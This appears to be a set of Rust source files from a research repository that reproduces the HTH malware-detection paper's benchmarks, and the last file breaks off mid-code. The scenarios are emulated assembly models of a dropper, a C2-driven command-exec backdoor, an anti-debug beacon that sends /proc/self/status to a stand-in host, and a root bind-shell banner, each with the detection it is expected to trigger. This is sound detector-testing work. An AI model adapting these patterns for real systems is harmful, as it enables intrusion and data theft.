                bip:        .long 0
                bindargs:   .long 0, baddr, 8
                listenargs: .long 0, 1
                acceptargs: .long 0, 0, 0
                rootbanner: .asciz "uid=0(root)"
                rootsend:   .long 0, rootbanner, 11, 0
                "#,
                &[],
            );
            StartSpec::plain("/models/tcpd")
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table1_models_are_all_flagged() {
        let mut failures = Vec::new();
        for scenario in scenarios() {
            let result = scenario.run().unwrap();
            if !result.correct() {
                failures.push(format!(
                    "{}: expected {:?}, got {:?} rules {:?}\n{}",
                    scenario.id,
                    scenario.expected,
                    result.max_severity(),
                    result.rules_fired(),
                    result.transcript,
                ));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n---\n"));
    }

    #[test]
    fn lodeight_detects_the_executable_download() {
        let result = trojan_lodeight().run().unwrap();
        assert!(result.transcript.contains("is an executable"), "{}", result.transcript);
        assert!(result.transcript.contains("1084"), "{}", result.transcript);
    }

    #[test]
    fn sendmail_child_executes_remote_command() {
        let result = sendmail_trojan().run().unwrap();
        let w = result
            .warnings
            .iter()
            .find(|w| w.rule == "check_execve")
            .expect("remote execve flagged");
        assert_eq!(w.severity, Severity::High);
        assert!(w.message.contains("originated from a socket"), "{w}");
    }

    #[test]
    fn tcp_wrappers_port_421_is_a_backdoor() {
        let result = tcp_wrappers_trojan().run().unwrap();
        assert!(result.transcript.contains(":421"), "{}", result.transcript);
    }

    #[test]
    fn tarno_hardware_id_exfil_is_flagged() {
        let result = pwsteal_tarno().run().unwrap();
        assert!(
            result.warnings.iter().any(|w| w.rule == "flow_hardware_to_socket"),
            "{:?}",
            result.rules_fired()
        );
    }
}
