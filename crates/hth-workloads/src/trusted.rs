//! Table 7 — trusted programs (paper §8.2): how often does HTH warn on
//! well-behaved software?
//!
//! Models of the eleven programs the paper ran: most are silent; `make`
//! and `g++` reproduce the paper's documented Low-severity false
//! positives (hardcoded helper executables), and `xeyes` reproduces the
//! Low warnings caused by X libraries writing their own data to the
//! (hardcoded) display socket. `pico` is silent here — the paper's High
//! warning was an artefact of the 2006 prototype's incomplete dataflow
//! tracking, which a complete tracker does not share (see
//! EXPERIMENTS.md).

use emukernel::{Endpoint, FileNode, Peer};
use hth_core::{Session, Severity};

use crate::libc::LIBX11_SO;
use crate::scenario::{Expectation, Group, Scenario, StartSpec};

/// All Table 7 scenarios.
pub fn scenarios() -> Vec<Scenario> {
    vec![
        ls(),
        column(),
        make_noop(),
        make_clean(),
        make_build(),
        gpp(),
        awk(),
        pico(),
        tail(),
        diff(),
        wc(),
        bc(),
        xeyes(),
    ]
}

fn reader_program(opens: &str) -> String {
    // Shared skeleton: open a file, read 16 bytes, print them.
    format!(
        r"
        _start:
            mov ebp, esp
        {opens}
            mov edi, eax
            mov eax, 3          ; read
            mov ebx, edi
            mov ecx, 0x09000000
            mov edx, 16
            int 0x80
            mov eax, 4          ; write(stdout)
            mov ebx, 1
            mov ecx, 0x09000000
            mov edx, 16
            int 0x80
            mov eax, 1
            mov ebx, 0
            int 0x80
        "
    )
}

fn ls() -> Scenario {
    Scenario {
        id: "ls",
        group: Group::Trusted,
        description: "list the current directory (opens \".\", hardcoded)",
        paper_note: "no warning; HTH notes \".\" is opened with a binary origin",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            session.kernel.vfs.install(".", FileNode::regular(b"file-a\nfile-b\n".to_vec()));
            let opens = r"
            mov eax, 5
            mov ebx, dot
            mov ecx, 0
            int 0x80
            ";
            let program = format!("{}\n.data\ndot: .asciz \".\"\n", reader_program(opens));
            session.kernel.register_binary("/bin/ls", &program, &[]);
            StartSpec::plain("/bin/ls")
        }),
    }
}

fn column() -> Scenario {
    Scenario {
        id: "column",
        group: Group::Trusted,
        description: "columnate three user-named files to the screen",
        paper_note: "no warning; output traced to all three user files",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            for name in ["a", "b", "c"] {
                session
                    .kernel
                    .vfs
                    .install(name, FileNode::regular(format!("contents-{name}").into_bytes()));
            }
            session.kernel.register_binary(
                "/usr/bin/column",
                r"
                _start:
                    mov ebp, esp
                    mov edi, 1          ; argv index
                col_loop:
                    mov eax, edi
                    imul eax, 4
                    add eax, ebp
                    mov ebx, [eax+4]    ; argv[edi]
                    cmp ebx, 0
                    je col_done
                    mov eax, 5          ; open(argv[i], O_RDONLY)
                    mov ecx, 0
                    int 0x80
                    mov esi, eax
                    mov eax, 3          ; read
                    mov ebx, esi
                    mov ecx, 0x09000000
                    mov edx, 16
                    int 0x80
                    mov eax, 4          ; write(stdout)
                    mov ebx, 1
                    mov ecx, 0x09000000
                    mov edx, 16
                    int 0x80
                    mov eax, 6          ; close
                    mov ebx, esi
                    int 0x80
                    inc edi
                    jmp col_loop
                col_done:
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                ",
                &[],
            );
            StartSpec::plain("/usr/bin/column").arg("a").arg("b").arg("c")
        }),
    }
}

fn make_noop() -> Scenario {
    Scenario {
        id: "make_noop",
        group: Group::Trusted,
        description: "make with everything up to date (reads makefile only)",
        paper_note: "no warnings when nothing needs to run",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            session.kernel.vfs.install("makefile", FileNode::regular(b"all: done\n".to_vec()));
            let opens = r"
            mov eax, 5
            mov ebx, mf
            mov ecx, 0
            int 0x80
            ";
            let program = format!("{}\n.data\nmf: .asciz \"makefile\"\n", reader_program(opens));
            session.kernel.register_binary("/usr/bin/make", &program, &[]);
            StartSpec::plain("/usr/bin/make")
        }),
    }
}

fn make_clean() -> Scenario {
    Scenario {
        id: "make_clean",
        group: Group::Trusted,
        description: "make clean: runs the recipe through a hardcoded /bin/sh",
        paper_note: "Low warning: execve of hardcoded /bin/sh (documented false positive)",
        expected: Expectation::Warn(Severity::Low),
        setup: Box::new(|session: &mut Session| {
            session
                .kernel
                .vfs
                .install("makefile", FileNode::regular(b"clean:\n\trm -f *.o\n".to_vec()));
            session.kernel.register_binary(
                "/usr/bin/make",
                r#"
                _start:
                    mov eax, 5          ; open makefile
                    mov ebx, mf
                    mov ecx, 0
                    int 0x80
                    mov edi, eax
                    mov eax, 3          ; read
                    mov ebx, edi
                    mov ecx, 0x09000000
                    mov edx, 16
                    int 0x80
                    mov eax, 11         ; execve("/bin/sh") - hardcoded
                    mov ebx, sh
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                mf: .asciz "makefile"
                sh: .asciz "/bin/sh"
                "#,
                &[],
            );
            StartSpec::plain("/usr/bin/make").arg("clean")
        }),
    }
}

fn make_build() -> Scenario {
    Scenario {
        id: "make_build",
        group: Group::Trusted,
        description: "make invoking g++ found through the PATH environment variable",
        paper_note: "Low warnings: command both hardcoded and user-originated (via PATH)",
        expected: Expectation::Warn(Severity::Low),
        setup: Box::new(|session: &mut Session| {
            session.kernel.vfs.install("makefile", FileNode::regular(b"all: g++ x.o\n".to_vec()));
            // Builds "<PATH dir>/g++" in a buffer: the directory prefix
            // comes from the environment (USER_INPUT), "/g++" from the
            // binary — a mixed-origin command name, as the paper saw.
            session.kernel.register_binary(
                "/usr/bin/make",
                r#"
                .equ CMD, 0x09010000
                _start:
                    mov ebp, esp
                    mov esi, [ebp+12]   ; envp[0] = "PATH=/usr/bin"
                    add esi, 5          ; skip "PATH="
                    mov edi, CMD
                copy_path:
                    movb eax, [esi]
                    cmp eax, 0
                    je copy_suffix
                    movb [edi], eax
                    inc esi
                    inc edi
                    jmp copy_path
                copy_suffix:
                    mov esi, gxx
                copy2:
                    movb eax, [esi]
                    movb [edi], eax
                    cmp eax, 0
                    je run
                    inc esi
                    inc edi
                    jmp copy2
                run:
                    mov eax, 11         ; execve(CMD)
                    mov ebx, CMD
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                gxx: .asciz "/g++"
                "#,
                &[],
            );
            StartSpec::plain("/usr/bin/make").env("PATH", "/usr/bin")
        }),
    }
}

fn gpp() -> Scenario {
    Scenario {
        id: "g++",
        group: Group::Trusted,
        description: "g++ compiling a user source file via hardcoded cc1plus/collect2",
        paper_note: "Low warnings for executing hardcoded `cc1plus` and `collect2`",
        expected: Expectation::Rules(Severity::Low, &["check_execve"]),
        setup: Box::new(|session: &mut Session| {
            session.kernel.vfs.install("test.cpp", FileNode::regular(b"int main(){}\n".to_vec()));
            session.kernel.register_binary(
                "/usr/bin/g++",
                r#"
                _start:
                    mov ebp, esp
                    mov ebx, [ebp+8]    ; argv[1] source file
                    mov eax, 5
                    mov ecx, 0
                    int 0x80
                    mov edi, eax
                    mov eax, 3
                    mov ebx, edi
                    mov ecx, 0x09000000
                    mov edx, 16
                    int 0x80
                    mov eax, 11         ; execve cc1plus (hardcoded)
                    mov ebx, cc1
                    int 0x80
                    mov eax, 11         ; execve collect2 (hardcoded)
                    mov ebx, col2
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                cc1:  .asciz "/usr/libexec/cc1plus"
                col2: .asciz "/usr/libexec/collect2"
                "#,
                &[],
            );
            StartSpec::plain("/usr/bin/g++").arg("test.cpp")
        }),
    }
}

fn awk() -> Scenario {
    Scenario {
        id: "awk",
        group: Group::Trusted,
        description: "awk '/ifdef/' over a user-named file",
        paper_note: "no warning; output traced to the user-given file",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            session
                .kernel
                .vfs
                .install("syscall_names.C", FileNode::regular(b"#ifdef X\n#endif\n".to_vec()));
            let opens = r"
            mov ebx, [ebp+12]   ; argv[2] = file (argv[1] is the pattern)
            mov eax, 5
            mov ecx, 0
            int 0x80
            ";
            let program = reader_program(opens);
            session.kernel.register_binary("/usr/bin/awk", &program, &[]);
            StartSpec::plain("/usr/bin/awk").arg("/ifdef/").arg("syscall_names.C")
        }),
    }
}

fn pico() -> Scenario {
    Scenario {
        id: "pico",
        group: Group::Trusted,
        description: "editor: types text, saves it to a user-named file",
        paper_note: "the 2006 prototype warned High due to mis-tagged data; a \
                     complete tracker is silent",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            session.kernel.push_stdin(b"hello, world".to_vec());
            session.kernel.register_binary(
                "/usr/bin/pico",
                r"
                _start:
                    mov ebp, esp
                    mov eax, 3          ; read the user's keystrokes
                    mov ebx, 0
                    mov ecx, 0x09000000
                    mov edx, 12
                    int 0x80
                    mov ebx, [ebp+8]    ; argv[1] = save file name
                    mov eax, 5          ; open(name, O_CREAT|O_WRONLY)
                    mov ecx, 0x41
                    int 0x80
                    mov esi, eax
                    mov eax, 4          ; write the buffer
                    mov ebx, esi
                    mov ecx, 0x09000000
                    mov edx, 12
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                ",
                &[],
            );
            StartSpec::plain("/usr/bin/pico").arg("a.txt")
        }),
    }
}

fn tail() -> Scenario {
    Scenario {
        id: "tail",
        group: Group::Trusted,
        description: "print the end of a user-named file",
        paper_note: "no warning",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            session
                .kernel
                .vfs
                .install("PinInstrumenter.C", FileNode::regular(b"class Pin {};\n".to_vec()));
            let opens = r"
            mov ebx, [ebp+8]
            mov eax, 5
            mov ecx, 0
            int 0x80
            ";
            session.kernel.register_binary("/usr/bin/tail", &reader_program(opens), &[]);
            StartSpec::plain("/usr/bin/tail").arg("PinInstrumenter.C")
        }),
    }
}

fn diff() -> Scenario {
    Scenario {
        id: "diff",
        group: Group::Trusted,
        description: "compare two user-named files, print differences",
        paper_note: "no warning; output traced to both files",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            session.kernel.vfs.install("old.txt", FileNode::regular(b"aaaa\n".to_vec()));
            session.kernel.vfs.install("new.txt", FileNode::regular(b"bbbb\n".to_vec()));
            session.kernel.register_binary(
                "/usr/bin/diff",
                r"
                _start:
                    mov ebp, esp
                    mov ebx, [ebp+8]
                    mov eax, 5
                    mov ecx, 0
                    int 0x80
                    mov edi, eax
                    mov eax, 3
                    mov ebx, edi
                    mov ecx, 0x09000000
                    mov edx, 8
                    int 0x80
                    mov ebx, [ebp+12]
                    mov eax, 5
                    mov ecx, 0
                    int 0x80
                    mov edi, eax
                    mov eax, 3
                    mov ebx, edi
                    mov ecx, 0x09000008
                    mov edx, 8
                    int 0x80
                    mov eax, 4          ; print both halves
                    mov ebx, 1
                    mov ecx, 0x09000000
                    mov edx, 16
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                ",
                &[],
            );
            StartSpec::plain("/usr/bin/diff").arg("old.txt").arg("new.txt")
        }),
    }
}

fn wc() -> Scenario {
    Scenario {
        id: "wc",
        group: Group::Trusted,
        description: "count bytes of a user-named file, print the count",
        paper_note: "no warning",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            session.kernel.vfs.install("input.txt", FileNode::regular(b"five\nwords\n".to_vec()));
            session.kernel.register_binary(
                "/usr/bin/wc",
                r"
                _start:
                    mov ebp, esp
                    mov ebx, [ebp+8]
                    mov eax, 5
                    mov ecx, 0
                    int 0x80
                    mov edi, eax
                    mov eax, 3
                    mov ebx, edi
                    mov ecx, 0x09000000
                    mov edx, 64
                    int 0x80
                    mov [0x09000100], eax   ; the byte count
                    mov eax, 4
                    mov ebx, 1
                    mov ecx, 0x09000100
                    mov edx, 4
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                ",
                &[],
            );
            StartSpec::plain("/usr/bin/wc").arg("input.txt")
        }),
    }
}

fn bc() -> Scenario {
    Scenario {
        id: "bc",
        group: Group::Trusted,
        description: "calculator: echoes the user's expression, prints a result",
        paper_note: "no warning; output partially traced to user input",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            session.kernel.push_stdin(b"2+2".to_vec());
            session.kernel.register_binary(
                "/usr/bin/bc",
                r"
                _start:
                    mov eax, 3          ; read the expression
                    mov ebx, 0
                    mov ecx, 0x09000000
                    mov edx, 8
                    int 0x80
                    mov eax, 4          ; echo it
                    mov ebx, 1
                    mov ecx, 0x09000000
                    mov edx, 8
                    int 0x80
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                ",
                &[],
            );
            StartSpec::plain("/usr/bin/bc")
        }),
    }
}

fn xeyes() -> Scenario {
    Scenario {
        id: "xeyes",
        group: Group::Trusted,
        description: "X client: libX11 writes its own setup bytes to the display socket",
        paper_note: "several Low false warnings (data from X libraries to the local socket)",
        expected: Expectation::Warn(Severity::Low),
        setup: Box::new(|session: &mut Session| {
            // The X server listens on the (hardcoded) local display port.
            session.kernel.net.add_peer(Endpoint { ip: 0x7f00_0001, port: 6000 }, Peer::default());
            session.kernel.register_lib("libX11.so", LIBX11_SO);
            session.kernel.register_binary(
                "/usr/bin/xeyes",
                r"
                .extern x_send_init
                _start:
                    mov eax, 102        ; socket()
                    mov ebx, 1
                    mov ecx, sockargs
                    int 0x80
                    mov esi, eax
                    mov [connargs], esi
                    mov eax, 102        ; connect to the display (hardcoded)
                    mov ebx, 3
                    mov ecx, connargs
                    int 0x80
                    mov ebx, esi        ; fd for the library call
                    call x_send_init
                    mov eax, 1
                    mov ebx, 0
                    int 0x80
                .data
                sockargs: .long 2, 1, 0
                xaddr:    .word 2
                xport:    .word 6000
                xip:      .long 0x7f000001
                connargs: .long 0, xaddr, 8
                ",
                &["libX11.so"],
            );
            StartSpec::plain("/usr/bin/xeyes")
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table7_matches_expectations() {
        let mut failures = Vec::new();
        for scenario in scenarios() {
            let result = scenario.run().unwrap();
            if !result.correct() {
                failures.push(format!(
                    "{}: expected {:?}, got {:?} (rules {:?})\n{}",
                    scenario.id,
                    scenario.expected,
                    result.max_severity(),
                    result.rules_fired(),
                    result.transcript,
                ));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n---\n"));
    }

    #[test]
    fn false_positive_count_is_small_and_low_only() {
        let mut warned = 0;
        for scenario in scenarios() {
            let result = scenario.run().unwrap();
            if let Some(sev) = result.max_severity() {
                warned += 1;
                assert_eq!(sev, Severity::Low, "{}: trusted FP must be Low", scenario.id);
            }
        }
        assert_eq!(warned, 4, "make_clean, make_build, g++, xeyes");
    }

    #[test]
    fn gpp_warns_for_both_helpers() {
        let result = gpp().run().unwrap();
        assert!(result.transcript.contains("cc1plus"));
        assert!(result.transcript.contains("collect2"));
    }
}
