//! # hth-workloads — every benchmark from the HTH paper
//!
//! Each evaluation row of the paper (§8) is a [`Scenario`]: an assembly
//! program for the `hth-vm` substrate plus the environment it needs
//! (files, scripted network peers, console input) and the expected
//! classification. The groups map to the paper's tables:
//!
//! * [`micro::exec_flow`] — Table 4 execution-flow benchmarks,
//! * [`micro::resource`] — Table 5 resource-abuse benchmarks,
//! * [`micro::info_flow`] — Table 6 information-flow matrix,
//! * [`trusted`] — Table 7 false-positive study (ls, column, make, g++,
//!   awk, pico, tail, diff, wc, bc, xeyes),
//! * [`exploits`] — Table 8 real exploits (ElmExploit, nlspath, procex,
//!   grabem, vixie crontab, pma, superforker) and the Table 1 catalog,
//! * [`macro_bench`] — §8.4 macro benchmarks (pwsafe, mw2.2.1,
//!   Tic-Tac-Toe, clean and trojaned variants),
//! * [`extensions`] — §10 future-work features implemented here
//!   (memory abuse, downloaded-executable content analysis),
//! * [`gen2`] — second-generation syscall surface (mmap, pipe/dup2
//!   laundering, select servers, signals, /proc self-inspection),
//! * [`table1_models`] — behavioural models of the §2.1 real-world
//!   malware (PWSteal.Tarno.Q, Trojan.Lodeight.A, W32.Mytob.J@mm),
//! * [`coordinated`] — the 12-session coordinated campaign for the
//!   fleet correlator (§10 item 6); *not* in [`all_scenarios`], since
//!   the paper tables score sessions one at a time.

#![warn(missing_docs)]

pub mod coordinated;
pub mod exploits;
pub mod extensions;
pub mod gen2;
pub mod libc;
pub mod macro_bench;
pub mod micro;
pub mod scenario;
pub mod table1_models;
pub mod trusted;

pub use scenario::{Expectation, Group, Scenario, ScenarioResult, StartSpec};

/// Every scenario in the repository, in table order.
pub fn all_scenarios() -> Vec<Scenario> {
    let mut all = micro::scenarios();
    all.extend(trusted::scenarios());
    all.extend(exploits::scenarios());
    all.extend(macro_bench::scenarios());
    all.extend(extensions::scenarios());
    all.extend(table1_models::scenarios());
    all.extend(gen2::scenarios());
    all
}
