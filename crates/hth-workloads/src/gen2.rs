//! Second-generation taint surface workloads: `mmap`, pipe/`dup2`
//! laundering, `select` servers, signals, and `/proc` self-inspection.
//!
//! These scenarios exist to *prove the ABI refactor pays*: each one
//! exercises syscalls that landed as single table rows in
//! `emukernel::abi` (constants, names, dispatch, assembler mnemonics and
//! userspace stubs all generated), and each pins the taint semantics the
//! paper's rules need — most importantly that laundering data through
//! kernel plumbing (a pipe, an `mmap` mapping, a `dup2`'d descriptor)
//! does **not** shed tags.
//!
//! The programs use the pre-seeded ABI constants (`SYS_*`, `O_*`,
//! `SC_*`, `SIG*`) and the generated `libsys.so` stubs — no hand-written
//! syscall numbers.

use emukernel::{Endpoint, FileNode, Peer, RemoteClient};
use hth_core::{Session, Severity};

use crate::libc::libsys_so;
use crate::scenario::{Expectation, Group, Scenario, StartSpec};

/// All second-generation-surface scenarios.
pub fn scenarios() -> Vec<Scenario> {
    vec![mmap_dropper(), pipe_launder(), antidebug_beacon(), sig_killer(), select_server()]
}

/// A dropper that `mmap`s its payload instead of `read`ing it: the
/// mapped pages must inherit the payload file's taint, so the write into
/// the drop location is a file→file flow with both names hardcoded.
fn mmap_dropper() -> Scenario {
    Scenario {
        id: "mmap-dropper",
        group: Group::Exploit,
        description: "dropper that mmaps its embedded payload file and copies it \
                      to a hardcoded drop path, chmods it and execs it",
        paper_note: "mapped file pages carry the file's DataSource: Medium \
                     file-to-file flow plus Low execve of the hardcoded drop path",
        expected: Expectation::Rules(Severity::Medium, &["flow_file_to_file", "check_execve"]),
        setup: Box::new(|session: &mut Session| {
            session.kernel.vfs.install(
                "/usr/share/app/payload.bin",
                FileNode::regular(b"\x7fELFdropper-payload"),
            );
            session.kernel.register_binary(
                "/gen2/mmap_dropper",
                r#"
                _start:
                    mov eax, SYS_open       ; open the embedded payload
                    mov ebx, payload
                    mov ecx, O_RDONLY
                    int 0x80
                    mov esi, eax
                    mov eax, SYS_mmap       ; map 19 payload bytes
                    mov ebx, esi
                    mov ecx, 19
                    mov edx, 0
                    int 0x80
                    mov edi, eax            ; mapping address
                    mov eax, SYS_open       ; open the drop location
                    mov ebx, droppath
                    mov ecx, O_CREAT
                    int 0x80
                    mov esi, eax
                    mov eax, SYS_write      ; copy straight out of the mapping
                    mov ebx, esi
                    mov ecx, edi
                    mov edx, 19
                    int 0x80
                    mov eax, SYS_close
                    mov ebx, esi
                    int 0x80
                    mov eax, SYS_munmap
                    mov ebx, edi
                    mov ecx, 19
                    int 0x80
                    mov eax, SYS_chmod      ; make it executable
                    mov ebx, droppath
                    mov ecx, 0x1ed
                    int 0x80
                    mov eax, SYS_execve     ; run the drop
                    mov ebx, droppath
                    int 0x80
                    mov eax, SYS_exit
                    mov ebx, 0
                    int 0x80
                .data
                payload:  .asciz "/usr/share/app/payload.bin"
                droppath: .asciz "/tmp/.helper"
                "#,
                &[],
            );
            StartSpec::plain("/gen2/mmap_dropper")
        }),
    }
}

/// A backdoor that tries to launder a command received from its C2
/// through an anonymous pipe (write end → `dup2`'d read end) before
/// `execve`ing it. The pipe must carry the socket taint end to end.
fn pipe_launder() -> Scenario {
    Scenario {
        id: "pipe-launder",
        group: Group::Exploit,
        description: "backdoor that pushes a C2-supplied command through a \
                      pipe + dup2 chain before execve — taint survives the plumbing",
        paper_note: "High: the execve'd name still carries its socket origin \
                     after the pipe round trip",
        expected: Expectation::Rules(Severity::High, &["check_execve"]),
        setup: Box::new(|session: &mut Session| {
            session.kernel.net.add_host("c2.evil.example", 0x0d0d_0d0d);
            session.kernel.net.add_peer(
                Endpoint { ip: 0x0d0d_0d0d, port: 6667 },
                Peer { on_connect: vec![b"/tmp/evil\0".to_vec()], ..Peer::default() },
            );
            session.kernel.register_lib("libsys.so", &libsys_so());
            session.kernel.register_binary(
                "/gen2/pipe_launder",
                r#"
                .extern sys_pipe
                .extern sys_dup2
                _start:
                    mov eax, SYS_socketcall ; socket()
                    mov ebx, SC_SOCKET
                    mov ecx, sockargs
                    int 0x80
                    mov esi, eax
                    mov [connargs], esi     ; connect(fd, &c2, 8)
                    mov eax, SYS_socketcall
                    mov ebx, SC_CONNECT
                    mov ecx, connargs
                    int 0x80
                    mov [recvargs], esi     ; recv the command (10 bytes)
                    mov eax, SYS_socketcall
                    mov ebx, SC_RECV
                    mov ecx, recvargs
                    int 0x80
                    mov ebx, fdbuf          ; pipe(fdbuf) via the libsys stub
                    call sys_pipe
                    mov eax, SYS_write      ; launder: command into the pipe
                    mov ebx, [wrfd]
                    mov ecx, 0x09000000
                    mov edx, 10
                    int 0x80
                    mov ebx, [rdfd]         ; dup2(read end, 10)
                    mov ecx, 10
                    call sys_dup2
                    mov eax, SYS_read       ; pull it back out of fd 10
                    mov ebx, 10
                    mov ecx, 0x09000100
                    mov edx, 10
                    int 0x80
                    mov eax, SYS_execve     ; exec the "clean" copy
                    mov ebx, 0x09000100
                    int 0x80
                    mov eax, SYS_exit
                    mov ebx, 0
                    int 0x80
                .data
                sockargs: .long 2, 1, 0
                c2addr:   .word 2
                c2port:   .word 6667
                c2ip:     .long 0x0d0d0d0d
                connargs: .long 0, c2addr, 8
                recvargs: .long 0, 0x09000000, 10, 0
                fdbuf:
                rdfd:     .long 0
                wrfd:     .long 0
                "#,
                &["libsys.so"],
            );
            StartSpec::plain("/gen2/pipe_launder")
        }),
    }
}

/// Anti-debug beacon: reads its own `/proc/self/status` (TracerPid
/// check) and ships it to a hardcoded C2 — the `/proc` read is flagged,
/// and the exfiltration is a file→socket flow.
fn antidebug_beacon() -> Scenario {
    Scenario {
        id: "antidebug-beacon",
        group: Group::Exploit,
        description: "reads /proc/self/status (anti-debug) and sends it to a \
                      hardcoded command-and-control endpoint",
        paper_note: "Low for the /proc self-inspection, High for shipping \
                     process state to a hardcoded socket",
        expected: Expectation::Rules(
            Severity::High,
            &["check_proc_introspection", "flow_file_to_socket"],
        ),
        setup: Box::new(|session: &mut Session| {
            session.kernel.net.add_host("drop.evil.example", 0x0e0e_0e0e);
            session.kernel.net.add_peer(Endpoint { ip: 0x0e0e_0e0e, port: 8080 }, Peer::default());
            session.kernel.register_binary(
                "/gen2/antidebug_beacon",
                r#"
                _start:
                    mov eax, SYS_open       ; open /proc/self/status
                    mov ebx, procpath
                    mov ecx, O_RDONLY
                    int 0x80
                    mov esi, eax
                    mov eax, SYS_read       ; read the status text
                    mov ebx, esi
                    mov ecx, 0x09000000
                    mov edx, 128
                    int 0x80
                    mov edi, eax            ; bytes read
                    mov eax, SYS_socketcall ; socket()
                    mov ebx, SC_SOCKET
                    mov ecx, sockargs
                    int 0x80
                    mov esi, eax
                    mov [connargs], esi     ; connect to the C2
                    mov eax, SYS_socketcall
                    mov ebx, SC_CONNECT
                    mov ecx, connargs
                    int 0x80
                    mov [sendargs], esi     ; send(fd, status, n)
                    mov [sendlen], edi
                    mov eax, SYS_socketcall
                    mov ebx, SC_SEND
                    mov ecx, sendargs
                    int 0x80
                    mov eax, SYS_exit
                    mov ebx, 0
                    int 0x80
                .data
                procpath: .asciz "/proc/self/status"
                sockargs: .long 2, 1, 0
                c2addr:   .word 2
                c2port:   .word 8080
                c2ip:     .long 0x0e0e0e0e
                connargs: .long 0, c2addr, 8
                sendargs: .long 0, 0x09000000
                sendlen:  .long 0
                sendflg:  .long 0
                "#,
                &[],
            );
            StartSpec::plain("/gen2/antidebug_beacon")
        }),
    }
}

/// Forks a child, registers its own SIGTERM handler, then SIGKILLs the
/// child — the watchdog-killer pattern. The kill is surfaced; the child
/// exits `128 + 9`.
fn sig_killer() -> Scenario {
    Scenario {
        id: "sig-killer",
        group: Group::Exploit,
        description: "parent installs a SIGTERM handler and SIGKILLs its child \
                      (watchdog-killer pattern)",
        paper_note: "Low: cross-process signal via SYS_kill",
        expected: Expectation::Rules(Severity::Low, &["check_process_kill"]),
        setup: Box::new(|session: &mut Session| {
            session.kernel.register_binary(
                "/gen2/sig_killer",
                r"
                _start:
                    mov eax, SYS_fork
                    int 0x80
                    cmp eax, 0
                    je child
                    mov esi, eax            ; child pid
                    mov eax, SYS_sigaction  ; shield ourselves from SIGTERM
                    mov ebx, SIGTERM
                    mov ecx, onterm
                    int 0x80
                    mov eax, SYS_kill       ; SIGKILL the child
                    mov ebx, esi
                    mov ecx, SIGKILL
                    int 0x80
                    mov eax, SYS_exit
                    mov ebx, 0
                    int 0x80
                child:
                    mov eax, SYS_nanosleep  ; would outlive the parent...
                    mov ebx, 500
                    int 0x80
                    mov eax, SYS_exit
                    mov ebx, 0
                    int 0x80
                onterm:
                    ret
                ",
                &[],
            );
            StartSpec::plain("/gen2/sig_killer")
        }),
    }
}

/// False-positive control: a `select`-driven echo server whose listening
/// address comes from *user input* (stdin). Nothing here is hardcoded,
/// so the backdoor-server and flow rules must stay silent.
fn select_server() -> Scenario {
    Scenario {
        id: "select-server",
        group: Group::Trusted,
        description: "select-driven echo server; listening address is read from \
                      stdin, one client echoed and exit — benign",
        paper_note: "control for the new surface: select/accept/echo with a \
                     user-supplied address must not warn",
        expected: Expectation::Silent,
        setup: Box::new(|session: &mut Session| {
            // sockaddr {family=2, port=5000, ip=0 (fill local)} over stdin.
            session.kernel.push_stdin(vec![0x02, 0x00, 0x88, 0x13, 0, 0, 0, 0]);
            session.kernel.net.queue_client(
                5000,
                RemoteClient {
                    from: Endpoint { ip: 0xc0a8_0117, port: 40112 },
                    sends: [b"ping".to_vec()].into(),
                    received: Vec::new(),
                },
            );
            session.kernel.register_binary(
                "/gen2/select_server",
                r#"
                _start:
                    mov eax, SYS_read       ; read the sockaddr from stdin
                    mov ebx, 0
                    mov ecx, 0x09000000
                    mov edx, 8
                    int 0x80
                    mov eax, SYS_socketcall ; socket()
                    mov ebx, SC_SOCKET
                    mov ecx, sockargs
                    int 0x80
                    mov esi, eax            ; listener fd
                    mov [bindargs], esi     ; bind(fd, user sockaddr, 8)
                    mov eax, SYS_socketcall
                    mov ebx, SC_BIND
                    mov ecx, bindargs
                    int 0x80
                    mov [listenargs], esi   ; listen(fd)
                    mov eax, SYS_socketcall
                    mov ebx, SC_LISTEN
                    mov ecx, listenargs
                    int 0x80
                    ; select until the listener is readable
                wait_accept:
                    mov ecx, 1
                    shl ecx, esi
                    mov [fdset], ecx
                    mov eax, SYS_select
                    mov ebx, 8
                    mov ecx, fdset
                    mov edx, 5
                    int 0x80
                    cmp eax, 0
                    je wait_accept
                    mov [acceptargs], esi   ; accept(fd, &peer)
                    mov eax, SYS_socketcall
                    mov ebx, SC_ACCEPT
                    mov ecx, acceptargs
                    int 0x80
                    mov edi, eax            ; connection fd
                    ; select until the connection is readable
                wait_data:
                    mov ecx, 1
                    shl ecx, edi
                    mov [fdset], ecx
                    mov eax, SYS_select
                    mov ebx, 8
                    mov ecx, fdset
                    mov edx, 5
                    int 0x80
                    cmp eax, 0
                    je wait_data
                    mov [recvargs], edi     ; recv(conn, buf, 16)
                    mov eax, SYS_socketcall
                    mov ebx, SC_RECV
                    mov ecx, recvargs
                    int 0x80
                    mov [sendargs], edi     ; echo it back
                    mov [sendlen], eax
                    mov eax, SYS_socketcall
                    mov ebx, SC_SEND
                    mov ecx, sendargs
                    int 0x80
                    mov eax, SYS_exit
                    mov ebx, 0
                    int 0x80
                .data
                sockargs:   .long 2, 1, 0
                bindargs:   .long 0, 0x09000000, 8
                listenargs: .long 0, 5
                acceptargs: .long 0, 0x09000020
